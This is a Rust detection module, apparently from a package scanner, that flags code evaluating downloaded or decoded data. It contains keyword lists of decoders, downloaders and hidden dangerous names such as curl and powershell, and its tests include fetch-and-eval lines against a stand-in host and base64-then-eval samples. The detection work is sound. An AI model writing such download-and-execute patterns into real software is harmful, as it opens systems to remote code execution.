//! Code that runs data: `eval`, `exec` and their kin, on what was decoded or downloaded.

use std::collections::{HashMap, HashSet};

use crate::oss::code::{Source, Token, TokenKind};

/// What is run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Payload {
    /// Bytes from the network.
    Downloaded,
    /// A string that an encoder wrote, present in the source.
    Decoded,
    /// Decoded data that comes from elsewhere.
    DecodedInput,
    /// Something that is not a literal, right after a download.
    AfterDownload,
}

impl Payload {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Downloaded => "runs code that it downloads",
            Self::Decoded | Self::DecodedInput => "runs a decoded string",
            Self::AfterDownload => "runs a string shortly after a download",
        }
    }
}

/// A call that runs data.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct EvaluatedData {
    pub line: u32,
    pub payload: Payload,
}

const DECODERS: &[&str] = &[
    "atob",
    "b64decode",
    "b32decode",
    "b85decode",
    "a85decode",
    "base64_decode",
    "fromhex",
    "unhexlify",
    "fromCharCode",
    "decompress",
    "rot13",
    "str_rot13",
    "unescape",
    "gzinflate",
    "gzuncompress",
    "inflateSync",
    "gunzipSync",
    "brotliDecompressSync",
    "FromBase64String",
    "decodestring",
    "decodebytes",
    "unpack",
    "urlsafe_b64decode",
    "decode64",
    "Buffer",
    "chr",
    "marshal",
    "createDecipheriv",
    "Fernet",
    "fromCodePoint",
];
const DOWNLOADERS: &[&str] = &[
    "urlopen",
    "urlretrieve",
    "requests",
    "httpx",
    "aiohttp",
    "fetch",
    "axios",
    "got",
    "DownloadString",
    "WebClient",
    "XMLHttpRequest",
    "importScripts",
    "HTTPSConnection",
    "urllib3",
];
/// Expressions followed from a call back to its data.
const MAX_DEPTH: usize = 5;
/// Lines between a download and a call that runs something.
const MAX_LINES_APART: u32 = 12;
/// A literal as long as this may be a script.
const SCRIPT_LENGTH: usize = 12;

/// Names whose only reason to be put together from pieces is to hide them.
const HIDDEN_NAMES: &[&str] = &[
    "eval",
    "exec",
    "Function",
    "child_process",
    "execSync",
    "spawnSync",
    "require",
    "__import__",
    "subprocess",
    "os.system",
    "system",
    "curl",
    "powershell",
    "b64decode",
    "atob",
];

/// The calls that run data, in the order of their lines.
pub fn find(source: &Source, ending: &str) -> Vec<EvaluatedData> {
    let runners: &[&str] = match ending {
        "py" | "pyw" | "pth" => &["exec", "eval"],
        "js" | "mjs" | "cjs" | "jsx" | "ts" | "tsx" | "mts" | "cts" | "vue" | "svelte" | "html" => {
            &[
                "eval",
                "Function",
                "runInThisContext",
                "runInNewContext",
                "runInContext",
                "_compile",
                "execScript",
            ]
        }
        "php" => &["eval", "assert", "create_function"],
        "rb" | "gemspec" => &["eval", "instance_eval", "class_eval"],
        "lua" => &["loadstring", "load"],
        _ => return Vec::new(),
    };
    let tokens = &source.tokens;
    let assigned = assignments(tokens);
    let downloads: Vec<u32> = tokens
        .iter()
        .filter(|token| {
            token
                .word()
                .is_some_and(|word| DOWNLOADERS.contains(&word) || matches!(word, "https" | "http"))
        })
        .map(|token| token.line)
        .collect();
    let mut found = Vec::new();
    for (at, token) in tokens.iter().enumerate() {
        let Some(word) = token.word().filter(|word| runners.contains(word)) else { continue };
        let method = at > 0 && tokens[at - 1].is('.');
        let builtin = at > 1
            && tokens[at - 2].word().is_some_and(|word| {
                matches!(
                    word,
                    "builtins"
                        | "__builtins__"
                        | "window"
                        | "globalThis"
                        | "global"
                        | "vm"
                        | "self"
                )
            });
        if !tokens.get(at + 1).is_some_and(|next| next.is('('))
            || (method && !builtin && word != "_compile" && !word.starts_with("runIn"))
        {
            continue;
        }
        let end = closing(tokens, at + 1);
        let data = trace(&tokens[at + 2..end], &assigned);
        let payload = if data.words.iter().any(|word| DOWNLOADERS.contains(&word.as_str())) {
            Payload::Downloaded
        } else if data.words.iter().any(|word| DECODERS.contains(&word.as_str())) {
            if data.literal { Payload::Decoded } else { Payload::DecodedInput }
        } else if !data.words.is_empty()
            && data.unknown
            && downloads
                .iter()
                .any(|line| *line <= token.line && token.line - line <= MAX_LINES_APART)
        {
            Payload::AfterDownload
        } else {
            continue;
        };
        found.push(EvaluatedData { line: token.line, payload });
    }
    found
}

/// The first name of a dangerous function that is put together or encoded.
pub fn hidden_name(source: &Source) -> Option<(u32, &str, &'static str)> {
    use crate::oss::code::Disguise;
    source.texts.iter().find_map(|value| {
        let hidden = value.disguise == Disguise::Joined || value.disguise.hides();
        let name = HIDDEN_NAMES.iter().find(|name| **name == value.text)?;
        // Reversed and turned words are words by chance more often than not.
        (hidden && name.len() >= 4 && value.disguise != Disguise::Rot13).then_some((
            value.line,
            *name,
            value.disguise.as_str(),
        ))
    })
}

/// What an expression is made of, variables followed.
#[derive(Default)]
struct Data {
    words: HashSet<String>,
    literal: bool,
    /// A name whose value is not in the source.
    unknown: bool,
}

type Assignments<'a> = HashMap<&'a str, Vec<&'a [Token]>>;

fn trace(tokens: &[Token], assigned: &Assignments<'_>) -> Data {
    let mut data = Data::default();
    let mut waiting: Vec<(usize, &[Token])> = vec![(0, tokens)];
    while let Some((depth, tokens)) = waiting.pop() {
        for token in tokens {
            match &token.kind {
                TokenKind::Text(text) => data.literal |= text.len() >= SCRIPT_LENGTH,
                TokenKind::Number(_) => data.literal |= tokens.len() > 2 * SCRIPT_LENGTH,
                TokenKind::Symbol(_) => {}
                TokenKind::Word(word) => {
                    if data.words.insert(word.clone()) && depth < MAX_DEPTH {
                        match assigned.get(word.as_str()) {
                            Some(values) => {
                                waiting.extend(values.iter().map(|value| (depth + 1, *value)))
                            }
                            None => data.unknown = true,
                        }
                    }
                }
            }
        }
    }
    data
}

/// Each variable with the expressions that it is given.
fn assignments(tokens: &[Token]) -> Assignments<'_> {
    let mut found: Assignments<'_> = HashMap::new();
    for (at, token) in tokens.iter().enumerate() {
        let names: Vec<&str> = if token.is('=') && at > 0 {
            let next_is_sign = tokens.get(at + 1).is_some_and(|next| next.is('=') || next.is('>'));
            if next_is_sign || tokens[at - 1].is('=') || tokens[at - 1].is('!') {
                continue;
            }
            targets(&tokens[..at])
        } else if token.word() == Some("as") {
            tokens.get(at + 1).and_then(Token::word).into_iter().collect()
        } else {
            continue;
        };
        let value = if token.is('=') {
            &tokens[at + 1..expression_end(tokens, at + 1)]
        } else {
            line_before(tokens, at)
        };
        for name in names {
            found.entry(name).or_default().push(value);
        }
    }
    found
}

/// The variables before an equals sign: `name =`, `name +=`, `name: type =`, `{ a, b } =`.
fn targets(before: &[Token]) -> Vec<&str> {
    let operator = |token: &&Token| "+-*/|&?%.".chars().any(|c| token.is(c));
    let mut back = before.iter().rev().skip_while(operator).peekable();
    if back.next_if(|token| token.is('}') || token.is(']')).is_some() {
        let inside = back.take(20).take_while(|token| !token.is('{') && !token.is('['));
        return inside.filter_map(Token::word).collect();
    }
    let mut names: Vec<&str> = back.next().and_then(Token::word).into_iter().collect();
    if back.next_if(|token| token.is(':')).is_some() {
        names.extend(back.next().and_then(Token::word));
    }
    names
}

/// Where an expression ends: at `;`, or at the end of a line outside all brackets.
fn expression_end(tokens: &[Token], start: usize) -> usize {
    let mut depth = 0_i32;
    let mut line = tokens.get(start).map_or(0, |token| token.line);
    for (at, token) in tokens.iter().enumerate().skip(start).take(400) {
        if depth <= 0 && (token.is(';') || token.line > line) && at > start {
            return at;
        }
        line = token.line;
        match token.kind {
            TokenKind::Symbol('(' | '[' | '{') => depth += 1,
            TokenKind::Symbol(')' | ']' | '}') => depth -= 1,
            _ => {}
        }
    }
    tokens.len().min(start + 400)
}

/// The tokens of the line before a place in it.
fn line_before(tokens: &[Token], at: usize) -> &[Token] {
    let line = tokens[at].line;
    let start =
        tokens[..at].iter().rposition(|token| token.line != line).map_or(0, |before| before + 1);
    &tokens[start..at]
}

/// The bracket that closes the one at `open`.
fn closing(tokens: &[Token], open: usize) -> usize {
    let mut depth = 0;
    for (at, token) in tokens.iter().enumerate().skip(open).take(2000) {
        match token.kind {
            TokenKind::Symbol('(') => depth += 1,
            TokenKind::Symbol(')') => depth -= 1,
            _ => {}
        }
        if depth == 0 {
            return at;
        }
    }
    tokens.len().min(open + 2000)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::oss::code::Syntax;

    fn payload(name: &str, code: &str) -> Option<Payload> {
        let source = Source::parse(code, Syntax::of(name, code));
        find(&source, name.rsplit('.').next().unwrap()).first().map(|found| found.payload)
    }

    #[test]
    fn data_is_followed_to_the_call() {
        for (name, code, expected) in [
            ("a.py", "exec(urlopen('https://x.invalid').read())", Payload::Downloaded),
            ("a.py", "with urlopen(u) as r:\n    code = r.read()\nexec(code)", Payload::Downloaded),
            (
                "a.py",
                "src = requests.get(u).text\nexec(compile(src, 'x', 'exec'))",
                Payload::Downloaded,
            ),
            ("a.py", "p = 'cHJpbnQoMSkgIyBoZWxsbw=='\nd = b64decode(p)\nexec(d)", Payload::Decoded),
            ("a.py", "exec(zlib.decompress(blob))", Payload::DecodedInput),
            ("a.js", "eval(atob('YWxlcnQoMSkgLy8gaGVsbG8='))", Payload::Decoded),
            (
                "a.js",
                "const s = Buffer.from(\n  'YWxlcnQoMSkgLy8=', 'base64');\nnew Function(s)()",
                Payload::Decoded,
            ),
            (
                "a.js",
                "const code = await (await fetch(u)).text();\neval(code)",
                Payload::Downloaded,
            ),
            (
                "a.js",
                "https.get(u, r => {\n  r.on('data', d => body += d);\n  r.on('end', () => eval(body));\n})",
                Payload::AfterDownload,
            ),
            ("a.php", "eval(gzinflate(base64_decode('c3Rlem92ZXIgYWJj')));", Payload::Decoded),
        ] {
            assert_eq!(payload(name, code), Some(expected), "{code}");
        }
    }

    #[test]
    fn ordinary_calls_are_not() {
        for (name, code) in [
            ("a.py", "exec(compile(open('version.py').read(), 'v', 'exec'))"),
            ("a.py", "# exec(urlopen(u).read())\nmodel.eval()"),
            ("a.js", "const m = /a/.exec(atob(x)); re.exec(y)"),
            ("a.js", "retrieval(atob(x))"),
            ("a.rs", "exec(base64::decode(x))"),
        ] {
            assert_eq!(payload(name, code), None, "{code}");
        }
    }

    #[test]
    fn names_in_pieces_are_found() {
        let code = "const f = global['ev' + 'al'];";
        let source = Source::parse(code, Syntax::of("a.js", code));
        assert_eq!(hidden_name(&source).map(|(line, name, _)| (line, name)), Some((1, "eval")));
        let code = "const a = ['eval', 'exec'];";
        let source = Source::parse(code, Syntax::of("a.js", code));
        assert_eq!(hidden_name(&source), None);
    }
}
